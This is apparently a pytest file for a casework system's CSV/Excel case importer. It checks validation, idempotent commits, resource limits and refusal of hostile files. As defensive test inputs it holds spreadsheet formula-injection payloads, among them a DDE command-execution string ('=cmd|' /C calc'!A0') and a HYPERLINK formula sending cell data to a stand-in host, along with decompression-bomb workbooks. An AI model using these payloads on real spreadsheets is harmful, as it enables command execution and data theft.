"""The case importer: dry run, commit, idempotence, the HTCDS template, malformed files."""

from __future__ import annotations

import io
import os
import zipfile
from collections.abc import Iterable
from datetime import date
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from casework import importer
from casework.importer import (
    ImportRefused,
    ImportReport,
    import_cases,
    looks_like_formula,
    read_file,
)
from casework.model import Case, ConsentRecord, Survivor
from casework.model.vocab import CaseStatus, ConsentKind, Role
from casework.vault.opened import OpenVault
from casework.vault.vault import VaultFolder
from tests.factories import actor_of, unlock

TEMPLATE = (
    Path(__file__).resolve().parents[3]
    / "shared"
    / "data"
    / "htcds"
    / "HTCDS Excel Spreadsheet v2.0.xlsx"
)
TODAY = date(2026, 11, 23)

GOOD = (
    "prs_FirstName,prs_SecondName,prs_Birthdate,prs_Gender,prs_Citizenship,prs_MobilePhone,"
    "vic_TypeOfExploitation,cas_Status,ext_CaseReference,ext_IntakeDate,ext_Caseworker,"
    "ext_ClosedDate,ext_ClosureReason,ext_ConsentAggregate,Shoe size\n"
    "Olena,Kovalenko,1998-04-02,Feminine,UA;MD,+380 67 123 4567,ForcedLabour;SexualExploitation,"
    "Active,R-1,2026-01-05,amina,,,yes,42\n"
    "Bad,Date,1998-13-02,Feminine,UA,,,Active,R-2,2026-01-05,,,,,\n"
    "Closed,Case,,Masculine,GH,,,Closed,R-3,2025-01-05,,2026-02-01,goals-met,no,\n"
    ",Noname,,,,,,,R-4,2026-02-01,,,,,\n"
)


def count(vault: OpenVault, model: type) -> int:
    with vault.session() as session:
        return session.execute(select(func.count()).select_from(model)).scalar_one()


def run(
    vault: OpenVault, data: bytes, name: str = "cases.csv", commit: bool = False
) -> ImportReport:
    with vault.transaction() as session:
        return import_cases(session, actor_of(vault), data, name, TODAY, commit)


def test_a_dry_run_lists_every_problem_and_writes_nothing(staffed_vault: OpenVault) -> None:
    report = run(staffed_vault, GOOD.encode())
    assert (report.rows_read, report.valid) == (4, 2)
    assert {(p.row, p.column, p.value) for p in report.problems} == {
        (3, "prs_Birthdate", "1998-13-02"),
        (5, "prs_FirstName", ""),
    }
    assert all(p.reason for p in report.problems)
    assert report.ignored_columns == ["Shoe size"]
    assert count(staffed_vault, Case) == 0


def test_commit_imports_the_valid_rows_once(staffed_vault: OpenVault) -> None:
    report = run(staffed_vault, GOOD.encode(), commit=True)
    assert report.imported == 2 and report.committed
    with staffed_vault.session() as session:
        olena = session.execute(select(Case).where(Case.reference == "R-1")).scalar_one()
        assert olena.survivor.citizenship == ["UA", "MD"]
        assert olena.survivor.exploitation_types == ["ForcedLabour", "SexualExploitation"]
        assert olena.assigned_caseworker_id is not None
        closed = session.execute(select(Case).where(Case.reference == "R-3")).scalar_one()
        assert closed.status == CaseStatus.CLOSED and closed.closed_date == date(2026, 2, 1)
        kinds = session.execute(select(ConsentRecord.kind)).scalars().all()
        assert kinds == [ConsentKind.AGGREGATE_REPORTING]
    again = run(staffed_vault, GOOD.encode(), commit=True)
    assert again.imported == 0 and again.already_present == 2
    assert count(staffed_vault, Case) == 2


def test_rows_without_a_reference_are_still_imported_only_once(staffed_vault: OpenVault) -> None:
    data = b"prs_FirstName,ext_IntakeDate\nAmani,2026-03-01\nBaraka,2026-03-02\n"
    assert run(staffed_vault, data, commit=True).imported == 2
    assert run(staffed_vault, data, commit=True).imported == 0
    assert count(staffed_vault, Case) == 2


def template_workbook() -> openpyxl.Workbook:
    """IOM's template from ../shared when it is there; otherwise one of the same shape: field
    names in the first row (with the misspelt column), labels in the second, numbered rows."""
    if TEMPLATE.exists():
        return openpyxl.load_workbook(TEMPLATE)
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    names = [
        None,
        "cas_CaseOwner",
        "prs_FirstName",
        "prs_SecondName",
        "con_Consent",
        "prs_Gender",
        "vic_TraffickingStatus",
        "vic_TraffickinStatusDecisionMakingOrg",
        "cas_Status",
        "cas_IncomingReferralDate",
    ]
    labels = [
        None,
        "Case Owner",
        "First Name",
        "Second Name",
        "Consent",
        "Gender",
        "Trafficking Status",
        "Trafficking Status Decision Making Organization",
        "Status",
        "Incoming Referral Date",
    ]
    sheet.append(names)
    sheet.append(labels)
    for number in range(1, 20):
        sheet.append([number])
    return workbook


def test_the_htcds_excel_template_with_its_misspelt_column(
    staffed_vault: OpenVault, tmp_path: Path
) -> None:
    workbook = template_workbook()
    sheet = workbook.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    assert "vic_TraffickinStatusDecisionMakingOrg" in header
    values = {
        "prs_FirstName": "Neema",
        "prs_SecondName": "Wafula",
        "prs_Gender": "Feminine",
        "vic_TraffickingStatus": "ActualVictimOfTrafficking",
        "cas_Status": "Active",
        "cas_IncomingReferralDate": date(2026, 5, 4),
        "con_Consent": "Yes",
        "vic_TraffickinStatusDecisionMakingOrg": "Police",
    }
    for column, value in values.items():
        sheet.cell(row=3, column=header.index(column) + 1, value=value)
    out = io.BytesIO()
    workbook.save(out)
    report = run(staffed_vault, out.getvalue(), "template.xlsx", commit=True)
    assert (report.rows_read, report.imported, report.problems) == (1, 1, [])
    with staffed_vault.session() as session:
        case = session.execute(select(Case)).scalar_one()
        assert case.intake_date == date(
            2026, 5, 4
        )  # from the referral date: the template has no ext_IntakeDate
        assert case.survivor.trafficking_status.value == "ActualVictimOfTrafficking"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ("prs_FirstName,ext_IntakeDate\nJosé,2026-01-01\n".encode("latin-1"), "UTF-8"),
        (b"name,date\nx,y\n", "header"),
        (b"", "empty"),
        (bytes(range(256)) * 40_000, "not a text file"),
        (b"PK\x03\x04" + b"\x00" * 100, "Excel"),
        (b'prs_FirstName,ext_IntakeDate\n"unterminated,2026-01-01\n', "CSV"),
    ],
)
def test_malformed_files_are_refused_whole(
    staffed_vault: OpenVault, data: bytes, message: str
) -> None:
    with pytest.raises(ImportRefused, match=message):
        run(staffed_vault, data, commit=True)
    assert count(staffed_vault, Case) == 0


def test_a_formula_cell_refuses_the_whole_file(staffed_vault: OpenVault) -> None:
    data = (
        b"prs_FirstName,prs_MobilePhone,ext_IntakeDate\n"
        b"Amani,+254 700 123 456,2026-01-01\n"
        b'Baraka,"=HYPERLINK(""http://x.example/?""&A1,""click"")",2026-01-01\n'
    )
    with pytest.raises(ImportRefused, match="formula") as refused:
        run(staffed_vault, data, commit=True)
    assert refused.value.report is not None
    assert refused.value.report.problems[0].row == 3
    assert count(staffed_vault, Case) == 0


def test_formula_detection_leaves_phone_numbers_alone() -> None:
    assert looks_like_formula("=1+1") and looks_like_formula("@SUM(A1)")
    assert looks_like_formula("+HYPERLINK(1)") and looks_like_formula("-cmd|' /C calc'!A0")
    assert not looks_like_formula("+254 700 123 456") and not looks_like_formula("-5")


def test_only_administrators_and_supervisors_import(
    staffed_vault: OpenVault, vault_folder: VaultFolder
) -> None:
    from tests.conftest import WORKER_PASSWORD

    amina = unlock(vault_folder, "amina", WORKER_PASSWORD)
    assert Role.CASEWORKER in actor_of(amina).roles
    with pytest.raises(Exception, match="permission"):
        run(amina, GOOD.encode())
    amina.lock()


HEADER = b"prs_FirstName,prs_Birthdate,cas_Status,ext_IntakeDate,ext_CaseReference\n"


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    body=st.one_of(
        st.binary(max_size=400),
        st.lists(
            st.lists(st.text(max_size=12), min_size=0, max_size=6).map(
                lambda cells: ",".join(cells)
            ),
            max_size=8,
        ).map(lambda lines: HEADER + "\n".join(lines).encode("utf-8", "surrogatepass")),
    )
)
def test_any_bytes_give_a_report_or_a_clean_refusal_never_a_partial_import(
    staffed_vault: OpenVault, body: bytes
) -> None:
    before = count(staffed_vault, Survivor), count(staffed_vault, Case)
    try:
        report = run(staffed_vault, body, commit=True)
    except ImportRefused as refused:
        assert refused.message
        assert (count(staffed_vault, Survivor), count(staffed_vault, Case)) == before
        return
    after = count(staffed_vault, Survivor), count(staffed_vault, Case)
    assert after == (before[0] + report.imported, before[1] + report.imported)
    assert report.valid == report.imported


# -- bad files: every read bounded -------------------------------------------------------------

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEETML = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def column_letter(index: int) -> str:
    letters, index = "", index + 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def sheet_xml(rows: list[list[object]]) -> bytes:
    """Cells as inline strings; ("formula", text) is a formula cell, ("shared", i) points at
    the i-th shared string."""
    out = [f'<worksheet xmlns="{MAIN_NS}"><sheetData>']
    for number, row in enumerate(rows, start=1):
        out.append(f'<row r="{number}">')
        for index, value in enumerate(row):
            ref = f"{column_letter(index)}{number}"
            if isinstance(value, tuple) and value[0] == "formula":
                out.append(f'<c r="{ref}"><f>{escape(value[1])}</f><v>0</v></c>')
            elif isinstance(value, tuple):
                out.append(f'<c r="{ref}" t="s"><v>{value[1]}</v></c>')
            elif value is not None:
                out.append(f'<c r="{ref}" t="inlineStr"><is><t>{escape(str(value))}</t></is></c>')
        out.append("</row>")
    out.append("</sheetData></worksheet>")
    return "".join(out).encode()


def workbook(
    sheets: dict[str, list[list[object]]], shared: Iterable[bytes] = (b"shared",)
) -> bytes:
    """A workbook written part by part (openpyxl writes no shared strings), its one shared
    string streamed from ``shared`` so that a huge one costs no memory here."""
    out = io.BytesIO()
    names = list(sheets)
    numbers = range(1, len(names) + 1)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{SHEETML}.sheet.main+xml"/>'
            f'<Override PartName="/xl/sharedStrings.xml" '
            f'ContentType="{SHEETML}.sharedStrings+xml"/>'
            + "".join(
                f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
                f'ContentType="{SHEETML}.worksheet+xml"/>'
                for i in numbers
            )
            + "</Types>",
        )
        archive.writestr(
            "_rels/.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{RELS_NS}/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>",
        )
        archive.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{MAIN_NS}" xmlns:r="{RELS_NS}"><sheets>'
            + "".join(
                f'<sheet name="{escape(name)}" sheetId="{i}" r:id="rId{i}"/>'
                for i, name in zip(numbers, names, strict=True)
            )
            + "</sheets></workbook>",
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(
                f'<Relationship Id="rId{i}" Type="{RELS_NS}/worksheet" '
                f'Target="worksheets/sheet{i}.xml"/>'
                for i in numbers
            )
            + f'<Relationship Id="rIdS" Type="{RELS_NS}/sharedStrings" '
            'Target="sharedStrings.xml"/></Relationships>',
        )
        for i, name in zip(numbers, names, strict=True):
            archive.writestr(f"xl/worksheets/sheet{i}.xml", sheet_xml(sheets[name]))
        with archive.open("xl/sharedStrings.xml", "w") as part:
            part.write(f'<sst xmlns="{MAIN_NS}"><si><t>'.encode())
            for chunk in shared:
                part.write(chunk)
            part.write(b"</t></si></sst>")
    return out.getvalue()


@pytest.fixture
def no_unbounded_reads(monkeypatch: pytest.MonkeyPatch) -> None:
    """Reading a whole file whatever its size would hang on /dev/zero or a pipe: fail fast."""

    def refuse(_path: Path) -> bytes:
        raise AssertionError("read_bytes() reads without a bound")

    monkeypatch.setattr(Path, "read_bytes", refuse)


def test_a_device_or_a_pipe_is_refused_without_being_read(
    no_unbounded_reads: None, tmp_path: Path
) -> None:
    with pytest.raises(ImportRefused, match="not an ordinary file"):
        read_file(Path("/dev/zero"))
    pipe = tmp_path / "cases.csv"
    os.mkfifo(pipe)
    with pytest.raises(ImportRefused, match="not an ordinary file"):
        read_file(pipe)  # no writer: a blocking open or read would wait for ever


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="needs Linux's /proc")
def test_a_file_whose_size_lies_is_read_only_up_to_the_cap(
    no_unbounded_reads: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    status = Path("/proc/self/status")  # an ordinary file that says it is empty
    assert status.stat().st_size == 0 and len(status.read_text()) > 100
    monkeypatch.setattr(importer.files, "MAX_FILE_BYTES", 100)
    with pytest.raises(ImportRefused, match="larger than"):
        read_file(status)


def test_an_ordinary_file_is_read_whole(tmp_path: Path) -> None:
    file = tmp_path / "cases.csv"
    file.write_bytes(GOOD.encode())
    assert read_file(file) == GOOD.encode()


def test_a_workbook_with_a_300_mb_shared_string_is_refused_before_it_is_unpacked(
    staffed_vault: OpenVault,
) -> None:
    megabyte = b"x" * (1024 * 1024)
    data = workbook(
        {"Cases": [["prs_FirstName", "ext_IntakeDate"], [("shared", 0), "2026-01-01"]]},
        shared=(megabyte for _ in range(300)),
    )
    assert len(data) < 1024 * 1024  # a small file...
    with pytest.raises(ImportRefused, match="unpacks to more than") as refused:
        run(staffed_vault, data, "cases.xlsx")  # ...that would unpack to 300 MB
    assert len(refused.value.message) < 200
    assert count(staffed_vault, Case) == 0


def test_a_workbook_cell_too_long_to_be_a_cell_is_refused_while_streaming(
    staffed_vault: OpenVault,
) -> None:
    long_text = b"x" * (6 * importer.MAX_CELL_CHARS)
    data = workbook(
        {
            "Cases": [
                ["prs_FirstName", "ext_IntakeDate", "Notes"],
                ["Amani", "2026-01-01", ("shared", 0)],
            ]
        },
        shared=[long_text],
    )
    with pytest.raises(ImportRefused, match="longer than 10000 characters") as refused:
        run(staffed_vault, data, "cases.xlsx", commit=True)
    assert "xxxxxxxxxx" not in refused.value.message
    assert count(staffed_vault, Case) == 0


def test_a_shared_string_of_many_short_runs_is_refused_while_streaming(
    staffed_vault: OpenVault, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each run (r/t) under the run check, the string as a whole 20 times a cell: it was loaded,
    then copied once per cell that refers to it (527 MB for 40 cells of a 14 KB file)."""
    runs = [b"a</t>", *[b"<r><t>" + b"y" * 40_000 + b"</t></r>"] * 20, b"<t>z"]
    data = workbook(
        {
            "Cases": [
                ["prs_FirstName", "ext_IntakeDate", "Notes"],
                ["Amani", "2026-01-01", ("shared", 0)],
            ]
        },
        shared=runs,
    )
    import openpyxl

    opened: list[bool] = []
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: opened.append(True))
    with pytest.raises(ImportRefused, match="The workbook holds a cell longer than 10000"):
        run(staffed_vault, data, "cases.xlsx", commit=True)
    assert not opened  # refused before openpyxl unpacks it
    assert count(staffed_vault, Case) == 0


def test_a_workbook_claiming_cells_far_to_the_right_is_refused(staffed_vault: OpenVault) -> None:
    wide = workbook({"Cases": [["prs_FirstName", "ext_IntakeDate"], ["Amani", "2026-01-01"]]})
    out = io.BytesIO()  # with one more cell in column XFD, the last one Excel has
    with zipfile.ZipFile(io.BytesIO(wide)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            part = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                part = part.replace(
                    b"</row></sheetData>", b'<c r="XFD2"><v>1</v></c></row></sheetData>'
                )
            target.writestr(info.filename, part)
    with pytest.raises(ImportRefused, match="beyond column ZZ"):
        run(staffed_vault, out.getvalue(), "cases.xlsx")


def test_problem_reports_quote_only_the_start_of_a_bad_value(staffed_vault: OpenVault) -> None:
    long_date = "2" * 9_000
    long_name = "N" * 5_000
    data = f"prs_FirstName,prs_Birthdate,ext_IntakeDate\n{long_name},{long_date},2026-01-01\n"
    report = run(staffed_vault, data.encode())
    values = {p.column: p.value for p in report.problems}
    assert set(values) == {"prs_FirstName", "prs_Birthdate"}
    for column, full in (("prs_FirstName", long_name), ("prs_Birthdate", long_date)):
        assert values[column] == full[:60] + "…"  # the first 60 characters


def test_country_and_exploitation_reasons_quote_the_start_of_a_bad_code(
    staffed_vault: OpenVault,
) -> None:
    data = (
        "prs_FirstName,prs_Citizenship,vic_TypeOfExploitation,ext_IntakeDate\n"
        f"Amani,{'Q' * 3000},{'W' * 3000},2026-01-01\n"
    )
    report = run(staffed_vault, data.encode())
    assert len(report.problems) == 2
    assert all(len(p.reason) < 100 and len(p.value) <= 61 for p in report.problems)


def test_problems_beyond_the_limit_are_counted_not_kept(
    staffed_vault: OpenVault, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(importer.files, "MAX_PROBLEMS", 3)
    data = "prs_FirstName,ext_IntakeDate\n" + "".join(f"P{i},2026-99-01\n" for i in range(5))
    report = run(staffed_vault, data.encode())
    assert len(report.problems) == 3 and report.unlisted_problems == 2
    assert report.problem_count == 5 and report.rows_with_problems == 5


# -- the row limit --------------------------------------------------------------------------


def test_the_row_limit_counts_data_rows_not_the_header(
    staffed_vault: OpenVault, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(importer, "MAX_ROWS", 3)
    rows = "".join(f"P{i},2026-01-0{i + 1}\n" for i in range(3))
    report = run(staffed_vault, f"prs_FirstName,ext_IntakeDate\n{rows}".encode())
    assert report.rows_read == report.valid == 3
    with pytest.raises(ImportRefused, match="more than 3 rows"):
        run(staffed_vault, f"prs_FirstName,ext_IntakeDate\n{rows}Four,2026-01-09\n".encode())


def test_the_templates_label_row_and_title_rows_do_not_count_either(
    staffed_vault: OpenVault, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(importer, "MAX_ROWS", 2)
    data = workbook(
        {
            "Cases": [
                ["Harbour Light cases"],
                ["prs_FirstName", "ext_IntakeDate"],
                ["First Name", "Intake Date"],
                ["Amani", "2026-01-01"],
                ["Baraka", "2026-01-02"],
            ]
        }
    )
    report = run(staffed_vault, data, "cases.xlsx")
    assert (report.rows_read, report.valid, report.problems) == (2, 2, [])


# -- formulas anywhere -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        # in a column the import ignores
        b"prs_FirstName,ext_IntakeDate,Notes\nAmani,2026-01-01,=1+1\n",
        # in a row whose imported cells are all empty
        b'prs_FirstName,ext_IntakeDate,Notes\n,,"=HYPERLINK(""http://x.example"")"\n',
        # above the header
        b"=cmd|' /C calc'!A0\nprs_FirstName,ext_IntakeDate\nAmani,2026-01-01\n",
        # in the header itself
        b"prs_FirstName,ext_IntakeDate,@SUM(A1)\nAmani,2026-01-01,\n",
    ],
    ids=["ignored-column", "empty-row", "above-header", "header"],
)
def test_a_formula_anywhere_in_a_csv_refuses_the_whole_file(
    staffed_vault: OpenVault, data: bytes
) -> None:
    with pytest.raises(ImportRefused, match="formula") as refused:
        run(staffed_vault, data, commit=True)
    assert refused.value.report is not None
    assert refused.value.report.problems[0].reason == "a spreadsheet formula"
    assert count(staffed_vault, Case) == 0


def test_a_formula_cell_in_any_sheet_of_a_workbook_refuses_it(staffed_vault: OpenVault) -> None:
    cases: list[list[object]] = [
        ["prs_FirstName", "ext_IntakeDate", "Notes"],
        ["Amani", "2026-01-01", "fine"],
    ]
    with_formulas: list[dict[str, list[list[object]]]] = [
        {"Cases": [*cases[:1], ["Amani", "2026-01-01", ("formula", "1+1")]]},
        {"Cases": cases, "Lists": [["a"], ["b", ("formula", "SUM(A1:A2)")]]},
    ]
    for sheets in with_formulas:
        with pytest.raises(ImportRefused, match="formula") as refused:
            run(staffed_vault, workbook(sheets), "cases.xlsx", commit=True)
        assert refused.value.report is not None and refused.value.report.problems
    assert "“Lists”" in refused.value.message and "B2" in refused.value.message
    assert count(staffed_vault, Case) == 0
    assert run(staffed_vault, workbook({"Cases": cases}), "cases.xlsx").valid == 1


# -- dates that contradict each other ----------------------------------------------------------


def test_contradictory_dates_are_named_like_every_other_problem(staffed_vault: OpenVault) -> None:
    data = (
        "prs_FirstName,prs_Birthdate,cas_Status,cas_IncomingReferralDate,ext_IntakeDate,"
        "ext_ClosedDate,ext_ClosureReason\n"
        "Closed,,Closed,,2026-03-01,2026-02-01,goals-met\n"
        "Born,2026-04-01,Active,,2026-03-01,,\n"
        "Referred,,Active,2026-03-02,2026-03-01,,\n"
        "Sameday,2026-03-01,Closed,2026-03-01,2026-03-01,2026-03-01,goals-met\n"
    )
    report = run(staffed_vault, data.encode())
    assert {(p.row, p.column, p.value) for p in report.problems} == {
        (2, "ext_ClosedDate", "2026-02-01"),
        (3, "prs_Birthdate", "2026-04-01"),
        (4, "cas_IncomingReferralDate", "2026-03-02"),
    }
    reasons = {p.column: p.reason for p in report.problems}
    assert reasons["ext_ClosedDate"] == "before the intake date (2026-03-01)"
    assert reasons["prs_Birthdate"] == "after the intake date (2026-03-01)"
    assert report.valid == 1  # the same day is no contradiction
    assert run(staffed_vault, data.encode(), commit=True).imported == 1
    assert count(staffed_vault, Case) == 1


# -- committing a large file -----------------------------------------------------------------


def many_rows(n: int) -> bytes:
    lines = [
        "ext_CaseReference,prs_FirstName,prs_MobilePhone,ext_IntakeDate,ext_Caseworker,"
        "con_Consent,cas_Status,ext_ClosedDate"
    ]
    for i in range(n):
        closed = i % 3 == 0
        lines.append(
            f"B-{i},Person{i},+254 700 {i:06d},2026-01-05,{'amina' if i % 2 else ''},yes,"
            f"{'Closed,2026-02-01' if closed else 'Active,'}"
        )
    return ("\n".join(lines) + "\n").encode()


def test_a_large_commit_is_written_in_batches_with_everything_the_services_write(
    staffed_vault: OpenVault, monkeypatch: pytest.MonkeyPatch
) -> None:
    from sqlalchemy import event

    from casework.model import Assignment, AuditEvent, StatusChange
    from casework.services import audit, people_index

    monkeypatch.setattr(importer, "BATCH_ROWS", 20, raising=False)
    rows = 100
    statements: list[str] = []
    engine = staffed_vault.engine

    def counted(_conn: object, _cursor: object, statement: str, *_args: object) -> None:
        statements.append(statement)

    audit_before = count(staffed_vault, AuditEvent)
    event.listen(engine, "before_cursor_execute", counted)
    try:
        report = run(staffed_vault, many_rows(rows), commit=True)
    finally:
        event.remove(engine, "before_cursor_execute", counted)
    assert report.imported == rows and report.problems == []
    # A statement per table per batch, not several per row.
    inserts = [s for s in statements if s.lstrip().upper().startswith("INSERT")]
    assert len(inserts) <= 8 * (rows // 20)
    assert count(staffed_vault, Survivor) == count(staffed_vault, Case) == rows
    assert count(staffed_vault, StatusChange) == rows
    assert count(staffed_vault, Assignment) == rows // 2
    assert count(staffed_vault, ConsentRecord) == rows
    assert count(staffed_vault, AuditEvent) == audit_before + rows
    with staffed_vault.session() as session:
        closed = session.execute(select(Case).where(Case.reference == "B-3")).scalar_one()
        assert closed.status == CaseStatus.CLOSED and closed.sort_name == "person3"
        actions = session.execute(
            select(AuditEvent.action, func.count()).group_by(AuditEvent.action)
        ).all()
        assert dict(actions)["case.import"] == rows
        assert staffed_vault.secrets.audit_root_key is not None
        assert audit.verify(session, staffed_vault.secrets.audit_root_key).ok
        phrase = people_index.match_phrase("Person42")
        assert phrase is not None
        found = session.execute(
            select(Case.reference).where(Case.id.in_(people_index.matching_cases(phrase)))
        ).scalars()
        assert list(found) == ["B-42"]


def test_a_refusal_late_in_a_file_undoes_the_batches_already_written(
    staffed_vault: OpenVault, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(importer, "BATCH_ROWS", 5, raising=False)
    data = many_rows(30) + b"B-x,=1+1,,2026-01-05,,yes,Active,\n"
    with pytest.raises(ImportRefused, match="formula"):
        run(staffed_vault, data, commit=True)
    assert count(staffed_vault, Case) == count(staffed_vault, Survivor) == 0
    monkeypatch.setattr(importer, "MAX_ROWS", 12)
    with pytest.raises(ImportRefused, match="more than 12 rows"):
        run(staffed_vault, many_rows(30), commit=True)
    assert count(staffed_vault, Case) == 0
